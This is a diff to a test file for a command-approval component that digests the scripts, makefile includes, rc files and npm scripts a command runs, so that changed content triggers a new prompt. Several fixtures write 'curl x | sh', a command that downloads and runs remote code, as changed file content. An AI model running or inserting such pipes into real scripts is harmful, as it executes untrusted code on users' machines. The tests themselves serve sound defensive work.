@@ -1,6 +1,10 @@
 import path from "node:path";
-import { describe, expect, it } from "vitest";
+import { loadShellParser } from "@slashi/core";
+import { beforeAll, describe, expect, it } from "vitest";
 import { commandBinding, executedContent } from "./binding.js";
+
+// Reading a bound script for what it sources uses the shell parser, loaded once a line was decided.
+beforeAll(() => loadShellParser());
 
 const CWD = "/home/dev/app";
 
@@ -102,13 +106,70 @@ describe("commandBinding", () => {
     expect(a.ok && b.ok && a.digest !== b.digest).toBe(true);
   });
 
-  it("binds make to the Makefile and refuses make -f", () => {
-    const read = files({ "/home/dev/app/Makefile": "all:\n\ttrue\n" });
+  it("binds make to the makefile it reads: -f files, else the first default name that exists", () => {
+    const read = files({ "/home/dev/app/Makefile": "all:\n\ttrue\n", "/home/dev/app/other.mk": "x:\n" });
     expect(executedContent(["make", "build"], CWD, read)).toMatchObject({
       kind: "makefile",
       file: "/home/dev/app/Makefile",
     });
-    expect(executedContent(["make", "-f", "other.mk"], CWD, read)).toHaveProperty("refused");
+    expect(executedContent(["make", "-j4", "-f", "other.mk", "x"], CWD, read)).toMatchObject({
+      kind: "makefile",
+      file: "/home/dev/app/other.mk",
+    });
+    expect(executedContent(["make", "--file=missing.mk"], CWD, read)).toHaveProperty("refused");
+    expect(executedContent(["make", "-C", "sub"], CWD, read)).toHaveProperty("refused");
+    expect(executedContent(["make", "--eval=x:", "x"], CWD, read)).toHaveProperty("refused");
+  });
+
+  it("never skips a GNUmakefile or makefile that make would read but that is refused", () => {
+    for (const refusedName of ["GNUmakefile", "makefile"]) {
+      const read = (file: string) =>
+        file === `/home/dev/app/${refusedName}`
+          ? { refused: "it is a FIFO" }
+          : file === "/home/dev/app/Makefile"
+            ? "all:\n"
+            : undefined;
+      const content = executedContent(["make"], CWD, read);
+      expect(content).toHaveProperty("refused");
+      expect((content as { refused: string }).refused).toContain(refusedName);
+    }
+  });
+
+  it("digests bytes: files that decode to the same text still differ", () => {
+    const a = commandBinding(["./x.sh"], CWD, () => Uint8Array.from([0x65, 0xff]));
+    const b = commandBinding(["./x.sh"], CWD, () => Uint8Array.from([0x65, 0xfe]));
+    expect(a.ok && b.ok).toBe(true);
+    if (a.ok && b.ok) expect(a.digest).not.toBe(b.digest);
+  });
+
+  it("binds the script an interpreter runs, not an option's value, and digests files options load", () => {
+    const read = files({
+      "/home/dev/app/rc": "echo rc",
+      "/home/dev/app/x.sh": "echo x",
+      "/home/dev/app/x.py": "print(1)",
+      "/home/dev/app/opt": "decoy",
+    });
+    expect(executedContent(["python3", "-X", "opt", "x.py"], CWD, read)).toMatchObject({
+      file: "/home/dev/app/x.py",
+    });
+    expect(executedContent(["python3", "-W", "opt", "x.py"], CWD, read)).toMatchObject({
+      file: "/home/dev/app/x.py",
+    });
+    expect(executedContent(["bash", "-O", "opt", "x.sh"], CWD, read)).toMatchObject({
+      file: "/home/dev/app/x.sh",
+    });
+    const withRc = commandBinding(["bash", "--rcfile", "rc", "x.sh"], CWD, read);
+    expect(withRc).toMatchObject({
+      ok: true,
+      content: { file: "/home/dev/app/x.sh", loads: ["/home/dev/app/rc"] },
+    });
+    const rcChanged = commandBinding(
+      ["bash", "--rcfile", "rc", "x.sh"],
+      CWD,
+      files({ "/home/dev/app/rc": "curl x | sh", "/home/dev/app/x.sh": "echo x" }),
+    );
+    expect(withRc.ok && rcChanged.ok && withRc.digest !== rcChanged.digest).toBe(true);
+    expect(commandBinding(["node", "-r", "./hook.js", "x.js"], CWD, read)).toMatchObject({ ok: false });
   });
 
   it.each([
@@ -139,5 +200,93 @@ describe("commandBinding", () => {
       expect(new Set([a.key, b.key, c.key]).size).toBe(3);
       expect(a.content.kind).toBe("none");
     }
+  });
+
+  describe("what the bound content pulls in", () => {
+    const digestOf = (argv: string[], map: Record<string, string>): string => {
+      const binding = commandBinding(argv, CWD, files(map));
+      if (!binding.ok) throw new Error(binding.reason);
+      return binding.digest;
+    };
+    const reasonOf = (argv: string[], map: Record<string, string>): string => {
+      const binding = commandBinding(argv, CWD, files(map));
+      return binding.ok ? "" : binding.reason;
+    };
+
+    it("binds a file a shell script sources: changing it asks again", () => {
+      for (const argv of [["./build.sh"], ["bash", "build.sh"]]) {
+        const before = {
+          "/home/dev/app/build.sh": "set -e\n. ./lib/env.sh\nmake",
+          "/home/dev/app/lib/env.sh": "X=1",
+        };
+        const after = { ...before, "/home/dev/app/lib/env.sh": "curl x | sh" };
+        expect(digestOf(argv, before)).not.toBe(digestOf(argv, after));
+        const nested = {
+          ...before,
+          "/home/dev/app/lib/env.sh": "source ./lib/more.sh",
+          "/home/dev/app/lib/more.sh": "a",
+        };
+        expect(digestOf(argv, nested)).not.toBe(
+          digestOf(argv, { ...nested, "/home/dev/app/lib/more.sh": "b" }),
+        );
+      }
+    });
+
+    it("does not offer Always allow for a source it cannot pin, and names the file", () => {
+      const script = (body: string) => ({ "/home/dev/app/build.sh": body, "/home/dev/app/lib.sh": "x" });
+      expect(reasonOf(["./build.sh"], script('source "$LIB"'))).toMatch(/build\.sh sources .*run time/);
+      expect(reasonOf(["./build.sh"], script("source lib.sh"))).toMatch(/build\.sh sources lib\.sh.*PATH/);
+      expect(reasonOf(["./build.sh"], script("cd sub && . ./lib.sh"))).toMatch(/after changing directory/);
+      expect(reasonOf(["./build.sh"], script("$RUN ./lib.sh"))).toMatch(/named only at run time/);
+      expect(reasonOf(["./build.sh"], script(". ./missing.sh"))).toMatch(/missing\.sh/);
+      // A script of another language is not read as shell.
+      expect(reasonOf(["./build.sh"], script("#!/usr/bin/env python3\nsource = 1"))).toBe("");
+    });
+
+    it("binds the files a makefile includes, and refuses includes it cannot pin", () => {
+      const make = {
+        "/home/dev/app/Makefile": "include common.mk\n-include local.mk\nall:\n\tinclude x\n",
+        "/home/dev/app/common.mk": "A=1",
+        "/home/dev/app/local.mk": "B=1",
+      };
+      expect(digestOf(["make"], make)).not.toBe(
+        digestOf(["make"], { ...make, "/home/dev/app/common.mk": "A=2" }),
+      );
+      expect(digestOf(["make"], make)).not.toBe(
+        digestOf(["make"], { ...make, "/home/dev/app/local.mk": "B=2" }),
+      );
+      const { ["/home/dev/app/local.mk"]: _gone, ...withoutLocal } = make;
+      expect(reasonOf(["make"], withoutLocal)).toMatch(/local\.mk/);
+      expect(reasonOf(["make"], { "/home/dev/app/Makefile": "include $(CONF)\n" })).toMatch(
+        /named only when make runs/,
+      );
+      expect(reasonOf(["make"], { "/home/dev/app/Makefile": "$(eval include x)\n" })).toMatch(/eval/);
+    });
+
+    it("binds the package scripts a script runs with npm run, npm test and yarn X", () => {
+      const pkgFile = (scripts: Record<string, string>) => ({ "/home/dev/app/package.json": pkg(scripts) });
+      const scripts = {
+        ci: "npm run build && npm test && yarn lint",
+        build: "tsc",
+        test: "vitest",
+        lint: "eslint .",
+        prelint: "x",
+      };
+      for (const changed of ["build", "test", "lint", "prelint"]) {
+        expect(digestOf(["npm", "run", "ci"], pkgFile(scripts))).not.toBe(
+          digestOf(["npm", "run", "ci"], pkgFile({ ...scripts, [changed]: "curl x | sh" })),
+        );
+      }
+      expect(executedContent(["npm", "run", "ci"], CWD, files(pkgFile(scripts)))).toMatchObject({
+        scripts: ["ci", "build", "test", "prelint", "lint"],
+      });
+      expect(reasonOf(["npm", "run", "ci"], pkgFile({ ci: "npm --prefix sub run build" }))).toMatch(
+        /another package/,
+      );
+      expect(reasonOf(["npm", "run", "ci"], pkgFile({ ci: "run-s build:*" }))).toMatch(/run-s/);
+      expect(reasonOf(["npm", "run", "ci"], pkgFile({ ci: "npm run nope" }))).toMatch(/"nope"/);
+      // A cycle ends.
+      expect(reasonOf(["npm", "run", "a"], pkgFile({ a: "npm run b", b: "npm run a" }))).toBe("");
+    });
   });
 });
